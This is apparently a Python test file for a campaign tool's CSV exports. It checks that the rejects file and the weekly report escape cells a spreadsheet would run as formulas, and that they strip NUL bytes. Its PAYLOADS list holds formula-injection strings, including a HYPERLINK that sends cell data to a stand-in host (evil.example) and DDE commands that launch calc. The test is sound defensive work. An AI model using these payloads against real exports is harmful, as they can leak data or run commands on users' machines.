"""Finding "CSV exports re-emit formulas": the rejects file and the weekly CSV escape every cell a
spreadsheet would run, and drop NUL bytes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from herald.audiences.importing import import_file
from herald.campaigns import metrics
from herald.core.spreadsheet import FORMULA_STARTS, safe_cell
from herald.reports.present import to_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@given(st.text())
def test_csv_formulas_safe_cell_never_starts_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    kept = text.replace("\x00", "")
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + kept if kept.startswith(FORMULA_STARTS) else kept)


def test_csv_formulas_numbers_pass_unchanged():
    assert safe_cell(-3) == -3 and safe_cell(-0.25) == -0.25 and safe_cell(None) is None


def test_csv_formulas_the_rejects_file_escapes_every_cell(db, tmp_path):
    lines = ["external_id,email,first_name,attributes.note"]
    for index, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"r{index},not-an-email-{index},{quoted},{quoted}")
    lines.append('r-nul,also-not-an-email,"Nul\x00Name","=1\x00+2"')
    source = tmp_path / "members.csv"
    source.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    report = import_file(db, source, rejects_path=rejects)
    assert report.rejected == len(PAYLOADS) + 1
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        text = handle.read()
    rows = list(csv.reader(io.StringIO(text)))
    assert _formula_cells(rows) == []
    assert "\x00" not in text
    names = [row[5] for row in rows[1:]]
    assert names[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert "NulName" in names


@pytest.mark.parametrize("name", PAYLOADS)
def test_csv_formulas_the_weekly_csv_escapes_campaign_names(name):
    zero = metrics.finish({key: 0 for key in metrics.COUNTS} | {"revenue": 0})
    report = {
        "campaigns": [
            {
                "id": 1,
                "name": name + "\x00",
                "kind": "campaign",
                "metrics": zero,
                "channel": "email",
            }
        ]
    }
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert rows[1][1] == "'" + name
    assert _formula_cells(rows) == []
